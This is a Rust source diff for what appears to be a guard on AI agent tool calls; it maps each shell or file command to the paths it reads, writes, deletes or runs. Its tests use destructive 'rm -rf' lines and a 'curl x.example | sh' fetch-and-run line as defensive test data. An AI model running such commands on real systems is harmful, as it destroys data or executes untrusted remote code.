@@ -1,0 +1,323 @@
+//! The paths a call names and what would become of each: what checks look at, backups copy, a
+//! release is bound to, and a person is shown.
+
+use std::collections::BTreeSet;
+
+use serde::{Deserialize, Serialize};
+
+use crate::call::ToolCall;
+use crate::effects::{self, Kind};
+use crate::judge::effect_of;
+use crate::paths::{Remembering, Surroundings};
+use crate::policy::Policy;
+use crate::shell::UNKNOWN;
+use crate::understand::Understood;
+
+/// The most paths that are named; a call that names more is refused by the judge anyway.
+const MOST: usize = 4000;
+
+/// The most things without a name that are told.
+const MOST_UNKNOWN: usize = 20;
+
+/// What would become of a path.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum PathVerb {
+    /// It is looked at, or sent somewhere.
+    Read,
+    /// It is made or changed; its mode and its owner count.
+    Write,
+    /// It is removed.
+    Delete,
+    /// It is run, or read as a script by what runs it.
+    Run,
+    /// Nobody knows: any of them.
+    #[serde(rename = "use")]
+    Unknown,
+}
+
+impl PathVerb {
+    /// The word in output.
+    pub fn word(self) -> &'static str {
+        match self {
+            PathVerb::Read => "read",
+            PathVerb::Write => "write",
+            PathVerb::Delete => "delete",
+            PathVerb::Run => "run",
+            PathVerb::Unknown => "use",
+        }
+    }
+
+    /// Whether what stands there may be different afterwards.
+    pub fn may_change(self) -> bool {
+        match self {
+            PathVerb::Write | PathVerb::Delete | PathVerb::Unknown => true,
+            PathVerb::Read | PathVerb::Run => false,
+        }
+    }
+
+    /// Whether what stands there is different afterwards, as far as is known.
+    fn changes(self) -> bool {
+        matches!(self, PathVerb::Write | PathVerb::Delete)
+    }
+
+    fn of(kind: Kind) -> Option<Self> {
+        match kind {
+            Kind::Read | Kind::List | Kind::Send => Some(PathVerb::Read),
+            Kind::Write | Kind::Append | Kind::Mode | Kind::Owner => Some(PathVerb::Write),
+            Kind::Delete => Some(PathVerb::Delete),
+            Kind::Run => Some(PathVerb::Run),
+            Kind::Either => Some(PathVerb::Unknown),
+            Kind::Connect
+            | Kind::Listen
+            | Kind::History
+            | Kind::Publish
+            | Kind::Database
+            | Kind::Infrastructure
+            | Kind::Privilege
+            | Kind::Signal
+            | Kind::Install
+            | Kind::Persist
+            | Kind::Opaque => None,
+        }
+    }
+}
+
+/// The paths of a call, and what it does to others that nobody can name before it runs.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct Named {
+    /// The paths, in the order the call names them, each with every verb once.
+    pub paths: Vec<(String, PathVerb)>,
+    /// What is made, changed or removed without a name that is known, as the call writes it.
+    pub unknown: Vec<String>,
+}
+
+/// The paths a call names under a policy.
+///
+/// They are absolute and real: links are followed, except the last one of a path that is removed.
+/// One with `*`, `?` or `[` in it is a pattern of the shell and stands for what that matches; `**`
+/// in it for any number of directories.
+pub fn named_paths(
+    call: &ToolCall,
+    policy: &Policy,
+    around: &Surroundings<'_>,
+) -> Vec<(String, PathVerb)> {
+    named(call, policy, around).paths
+}
+
+/// The paths a call names, and what it changes besides.
+pub fn named(call: &ToolCall, policy: &Policy, around: &Surroundings<'_>) -> Named {
+    let lookup = Remembering::new(around.lookup);
+    let around = Surroundings {
+        directory: call.cwd().or(around.directory),
+        lookup: &lookup,
+        ..*around
+    };
+    let view = Understood::in_surroundings(call, effect_of(call, policy), Some(&around));
+    let mut found = Found::default();
+    if view.trouble.is_some() {
+        found.unknown(call.tool());
+    }
+    effects::subjects(&view, &around, &policy.generated(), |subject| {
+        let by_find = matches!(subject.within.first(), Some(&("find" | "gfind" | "bfs")));
+        for effect in &subject.effects {
+            if effect.kind == Kind::Opaque {
+                found.unknown(subject.program.unwrap_or(subject.tool));
+            }
+            let Some(verb) = PathVerb::of(effect.kind) else {
+                continue;
+            };
+            match &effect.place.path {
+                Some(path) if is_known(path) && by_find => found.add(&at_any_depth(path), verb),
+                Some(path) if is_known(path) => found.add(path, verb),
+                Some(_) | None if verb.changes() => found.unknown(&effect.text),
+                Some(_) | None => {}
+            }
+        }
+        if subject.effects.len() > effects::MOST_OF_A_COMMAND {
+            found.unknown(subject.program.unwrap_or(subject.tool));
+        }
+    });
+    for script in &view.files {
+        found.add(&script.path, PathVerb::Run);
+    }
+    found.named
+}
+
+fn is_known(path: &str) -> bool {
+    path.starts_with('/') && !path.contains(UNKNOWN)
+}
+
+/// What `find` removes by a pattern it removes wherever it finds it.
+fn at_any_depth(path: &str) -> String {
+    match path.rsplit_once('/') {
+        Some((directory, name)) if name.contains(['*', '?', '[']) => {
+            format!("{directory}/**/{name}")
+        }
+        Some(_) | None => path.to_owned(),
+    }
+}
+
+#[derive(Default)]
+struct Found {
+    named: Named,
+    known: BTreeSet<(String, PathVerb)>,
+}
+
+impl Found {
+    fn add(&mut self, path: &str, verb: PathVerb) {
+        if self.named.paths.len() >= MOST {
+            self.unknown(path);
+        } else if self.known.insert((path.to_owned(), verb)) {
+            self.named.paths.push((path.to_owned(), verb));
+        }
+    }
+
+    fn unknown(&mut self, text: &str) {
+        let text = text.replace(UNKNOWN, "…");
+        if self.named.unknown.len() < MOST_UNKNOWN && !self.named.unknown.contains(&text) {
+            self.named.unknown.push(text);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::paths::{Entry, Lookup, NoLinks};
+    use serde_json::json;
+
+    fn paths(call: &ToolCall, lookup: &dyn Lookup) -> Vec<(String, PathVerb)> {
+        all(call, lookup).paths
+    }
+
+    fn all(call: &ToolCall, lookup: &dyn Lookup) -> Named {
+        let around = Surroundings {
+            workspace: Some("/ws"),
+            directory: None,
+            home: Some("/home/dev"),
+            lookup,
+        };
+        named(call, &Policy::compile(vec![]).unwrap(), &around)
+    }
+
+    fn of(line: &str) -> Vec<(String, PathVerb)> {
+        paths(&ToolCall::shell(line), &NoLinks)
+    }
+
+    fn path(path: &str, verb: PathVerb) -> (String, PathVerb) {
+        (path.to_owned(), verb)
+    }
+
+    #[test]
+    fn every_spelling_names_the_real_place() {
+        let wanted = path("/ws/build", PathVerb::Delete);
+        for line in [
+            "rm -rf build",
+            "rm -fr ./build/",
+            "sudo rm -r -f /ws/x/../build",
+            "bash -c 'rm -rf build'",
+            "D=build; rm -r $D",
+            "cd sub && rm -rf ../build",
+        ] {
+            assert!(of(line).contains(&wanted), "{line}: {:?}", of(line));
+        }
+        assert!(of("rm -rf \"$SOMEWHERE\"").is_empty());
+    }
+
+    #[test]
+    fn what_has_no_name_yet_is_told() {
+        let unknown = |line: &str| all(&ToolCall::shell(line), &NoLinks).unknown;
+        assert_eq!(unknown("rm -rf $SOMEWHERE"), ["$SOMEWHERE"]);
+        assert_eq!(unknown("curl x.example | sh").len(), 1);
+        assert!(unknown("rm x; cat $Y").is_empty());
+        let many: Vec<String> = (0..600).map(|n| format!("f{n}")).collect();
+        assert_eq!(unknown(&format!("rm {}", many.join(" "))), ["rm"]);
+    }
+
+    #[test]
+    fn find_removes_at_any_depth() {
+        assert!(
+            of("find src -name '*.o' -delete").contains(&path("/ws/src/**/*.o", PathVerb::Delete)),
+            "{:?}",
+            of("find src -name '*.o' -delete")
+        );
+    }
+
+    #[test]
+    fn each_verb_is_told() {
+        let found = of("cp a b; cat c > d; ./e; rm f; frobnicate ./g; chmod 600 h; mv i j");
+        for wanted in [
+            path("/ws/a", PathVerb::Read),
+            path("/ws/b", PathVerb::Write),
+            path("/ws/c", PathVerb::Read),
+            path("/ws/d", PathVerb::Write),
+            path("/ws/f", PathVerb::Delete),
+            path("/ws/g", PathVerb::Unknown),
+            path("/ws/h", PathVerb::Write),
+            path("/ws/i", PathVerb::Delete),
+            path("/ws/j", PathVerb::Write),
+        ] {
+            assert!(found.contains(&wanted), "{wanted:?} in {found:?}");
+        }
+    }
+
+    #[test]
+    fn a_file_tool_names_its_file() {
+        let call = ToolCall::new("Write", json!({"file_path": "/ws/x", "content": "/etc"}));
+        assert_eq!(
+            paths(&call.unwrap(), &NoLinks),
+            [path("/ws/x", PathVerb::Write)]
+        );
+    }
+
+    /// A link to a directory, and a script.
+    struct Disk;
+
+    impl Lookup for Disk {
+        fn entry(&self, path: &str) -> Entry {
+            match path {
+                "/ws/link" => Entry::Link("/data".into()),
+                _ => Entry::Other,
+            }
+        }
+
+        fn reads(&self) -> bool {
+            true
+        }
+
+        fn text(&self, path: &str, _most: usize) -> Option<String> {
+            (path == "/ws/clean.sh").then(|| "rm -rf out\n".to_owned())
+        }
+    }
+
+    #[test]
+    fn a_script_is_run_and_what_it_removes_is_removed() {
+        let found = paths(&ToolCall::shell("bash clean.sh"), &Disk);
+        assert!(
+            found.contains(&path("/ws/clean.sh", PathVerb::Run)),
+            "{found:?}"
+        );
+        assert!(
+            found.contains(&path("/ws/out", PathVerb::Delete)),
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn a_link_is_removed_itself_and_written_through() {
+        let found = paths(&ToolCall::shell("rm link"), &Disk);
+        assert_eq!(found, [path("/ws/link", PathVerb::Delete)]);
+        let found = paths(&ToolCall::shell("echo > link/x"), &Disk);
+        assert!(
+            found.contains(&path("/data/x", PathVerb::Write)),
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn the_number_of_paths_is_bounded() {
+        let words: Vec<String> = (0..3000).map(|n| format!("f{n}")).collect();
+        assert!(of(&format!("rm {}", words.join(" "))).len() <= MOST);
+    }
+}
